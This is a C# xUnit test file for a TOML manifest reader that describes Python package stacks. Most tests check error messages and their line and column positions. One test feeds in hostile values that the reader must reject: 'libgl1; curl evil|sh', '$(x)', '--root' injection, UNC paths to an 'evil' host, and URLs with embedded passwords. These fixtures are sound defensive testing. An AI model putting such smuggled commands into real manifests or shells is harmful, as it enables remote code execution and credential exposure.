using Plumb.Python;
using Plumb.Stacks;
using Xunit;

namespace Plumb.Core.Tests.Stacks;

public sealed class StackReaderTests
{
    private const string Head = "[stack]\nname = 'a'\n";

    [Theory]
    [InlineData("", "1:1", "wants a table [stack]")]
    [InlineData("[stack]\ntitle = 'x'\n", "1:1", "name = \"…\"")]
    [InlineData("[stack]\nname = 'A b'\n", "2:8", "lower-case letters, digits and hyphens")]
    [InlineData("[stack]\nname = 7\n", "2:8", "name = \"…\"")]
    [InlineData(Head + "[[stages]]\nname = 'x'\n", "3:3", "Did you mean \"stage\"?")]
    [InlineData(Head + "[[stage]]\nname = 'x'\npackages = ['numpy<<2']\n", "5:13", "\"numpy<<2\" is no requirement")]
    [InlineData(Head + "[[stage]]\nname = 'x'\npackages = 'numpy'\n", "5:12", "a list such as [\"numpy<2\"]")]
    [InlineData(Head + "[[stage]]\nname = 'x'\nimport = ['cv2']\n", "5:1", "Did you mean \"imports\"?")]
    [InlineData(Head + "[[stage]]\nname = 'x'\nimports = ['cv-2']\n", "5:12", "names of modules such as \"cv2\"")]
    [InlineData(Head + "[[stage]]\nname = 'x'\n[[stage]]\nname = 'x'\n", "6:8", "each name stands once")]
    [InlineData(
        Head + "[[variant]]\nname = 'cuda'\n[[stage]]\nname = 'x'\nvariants = { cud = ['a'] }\n",
        "7:14",
        "there are cuda"
    )]
    [InlineData(Head + "[requires]\nmemory = '8 gigs'\n", "4:10", "a size such as \"8 GB\"")]
    [InlineData(Head + "[requires]\npython = '3.10+'\n", "4:10", "versions such as \">=3.10,<3.13\"")]
    [InlineData(
        Head + "[[variant]]\nname = 'x'\nwhen = { gpu = 'nvdia' }\n",
        "5:16",
        "nvidia, amd, intel, apple or any, not \"nvdia\". Did you mean \"nvidia\"?"
    )]
    [InlineData(Head + "[[variant]]\nname = 'x'\nwhen = { cuda = '12,8' }\n", "5:17", "\"12.8\"")]
    [InlineData(Head + "[[model]]\nname = 'x'\npath = '../x.onnx'\n", "5:8", "without \"..\"")]
    [InlineData(Head + "[[model]]\nname = 'x'\npath = 'x'\nsha256 = 'abc'\n", "6:10", "64 hexadecimal digits")]
    [InlineData(Head + "[[model]]\nname = 'x'\npath = 'x'\nbytes = -1\n", "6:9", "a whole number")]
    [InlineData(Head + "[[system]]\nlibrary = 'a'\ncommand = 'b'\n", "3:1", "library = ")]
    [InlineData(Head + "[[exclusive]]\npackages = ['a']\n", "3:1", "two packages or more")]
    [InlineData(Head + "[[step]]\nname = 'x'\nmodels = ['y']\n", "5:11", "there is no [[model]]")]
    [InlineData(
        Head + "[[failure]]\nsignature = 'x'\nsource = 'y'\ngrade = 'rumour'\n",
        "6:9",
        "\"documented\" or \"folklore\""
    )]
    [InlineData(Head + "[requires]\nmemory = 8\n", "4:10", "a size such as \"8 GB\"")]
    [InlineData(Head + "[requires]\npython = '>=3.13,<3.10'\n", "4:10", "which no version meets")]
    [InlineData(Head + "[[variant]]\nname = 'cpu'\n[[variant]]\nname = 'x'\n", "3:1", "put it last")]
    [InlineData(Head + "[[variable]]\nname = 'A=B'\n", "4:8", "wants a name")]
    [InlineData(Head + "[[variable]]\nname = 'A'\nvalue = 4\n", "5:9", "a text such as")]
    [InlineData("[stack]\nname = 'a'\nhome = 'javascript:x'\n", "3:8", "begins with https://")]
    [InlineData("[stack\nname = 'a'\n", "1:7", "")]
    public void A_mistake_names_file_line_column_and_what_is_allowed(string text, string place, string said)
    {
        Assert.False(StackReader.TryRead("plumb.toml", text, out var stack, out var mistake));
        Assert.Null(stack);
        Assert.StartsWith($"plumb.toml:{place}: ", mistake.ToString(), StringComparison.Ordinal);
        Assert.Contains(said, mistake.Message, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', mistake.Message);
    }

    [Fact]
    public void Everything_that_a_manifest_says_is_read()
    {
        const string Text = """
            source = "https://example.org/a"
            grade = "documented"
            date = "2026-01-02"

            [stack]
            name = "faces"
            title = "Faces"

            [requires]
            python = ">=3.10"
            memory = "8 GiB"
            disk = 2000000

            [[variant]]
            name = "cuda"
            when = { system = ["linux", "windows"], gpu = "nvidia", cuda = "12.8", capability = ">=7.5" }
            index = [{ url = "https://example.org/whl/cu128", packages = ["torch"] }]

            [[variant]]
            name = "cpu"

            [[stage]]
            name = "core"
            packages = ["numpy<2"]
            imports = ["numpy"]
            why = "because"
            variants = { cuda = ["torch==2.7.0+cu128"], cpu = ["torch==2.7.0"] }

            [[model]]
            name = "m"
            path = "~/m.onnx"
            preprocessing = { mean = [0.5, 1], colour = "RGB" }

            [[system]]
            command = "ffmpeg"
            systems = "linux"
            packages = { debian = "ffmpeg" }
            """;
        Assert.True(StackReader.TryRead("a.toml", Text, out var stack, out var mistake), mistake?.ToString());
        Assert.Equal(8L << 30, stack.Requires.MemoryBytes);
        Assert.Equal(2_000_000, stack.Requires.DiskBytes);
        var cuda = stack.Variants[0];
        Assert.Equal([OperatingSystemFamily.Linux, OperatingSystemFamily.Windows], cuda.When.Systems);
        Assert.Equal("https://example.org/whl/cu128", cuda.Indexes[0].Url);
        Assert.Equal(
            ["numpy<2", "torch==2.7.0+cu128"],
            Stack.RequirementsOf(stack.Stages[0], cuda).Select(r => r.Requirement.ToString())
        );
        Assert.Equal(["numpy<2"], Stack.RequirementsOf(stack.Stages[0], null).Select(r => r.Requirement.ToString()));
        Assert.Equal("because", stack.Stages[0].Source.Why);
        Assert.Equal("https://example.org/a", stack.Models[0].Source.Fact!.Text);
        Assert.Equal([("mean", "0.5, 1"), ("colour", "RGB")], stack.Models[0].Preprocessing);
        Assert.Equal("ffmpeg", stack.System[0].Name);
    }

    [Theory]
    [InlineData("[[system]]\ncommand = 'a'\npackages = { debian = 'libgl1; curl evil|sh' }\n", "debian of packages")]
    [InlineData("[[system]]\ncommand = 'a'\npackages = { arch = '--root /tmp' }\n", "arch of packages")]
    [InlineData("[[system]]\ncommand = 'a'\npackages = { macos = '$(x)' }\n", "macos of packages")]
    [InlineData("[[model]]\nname = 'm'\npath = '//evil/share/m.onnx'\n", "path of [[model]]")]
    [InlineData("[[model]]\nname = 'm'\npath = '\\\\evil\\m.onnx'\n", "path of [[model]]")]
    [InlineData("[[model]]\nname = 'm'\npath = 'm'\nurls = 'https://me:hunter2@example.org/m'\n", "password")]
    [InlineData("[[stage]]\nname = 's'\npackages = ['a @ https://me:hunter2@example.org/a.whl']\n", "password")]
    [InlineData(
        "[[variant]]\nname = 'v'\nindex = [{ url = 'https://me:hunter2@example.org', packages = ['a'] }]\n",
        "password"
    )]
    [InlineData("[requires]\ndisk = '99999999999999999999999999 TB'\n", "disk")]
    public void What_would_reach_a_shell_another_machine_or_a_reader_is_refused(string table, string says)
    {
        Assert.False(StackReader.TryRead("a.toml", "[stack]\nname = 'a'\n" + table, out _, out var mistake));
        Assert.Contains(says, mistake.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", mistake.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_file_of_random_tables_ends_in_a_mistake_and_never_in_an_exception()
    {
        string[] values = ["1", "'x'", "[]", "{}", "true", "1.5", "[1]", "[{}]", "1979-05-27", "[[]]"];
        string[] keys = ["stack", "requires", "variant", "stage", "exclusive", "system", "model", "step", "correction"];
        foreach (var key in keys)
        {
            foreach (var value in values)
            {
                StackReader.TryRead("a.toml", $"{key} = {value}\n", out _, out var mistake);
                Assert.NotNull(mistake);
            }
        }
    }
}
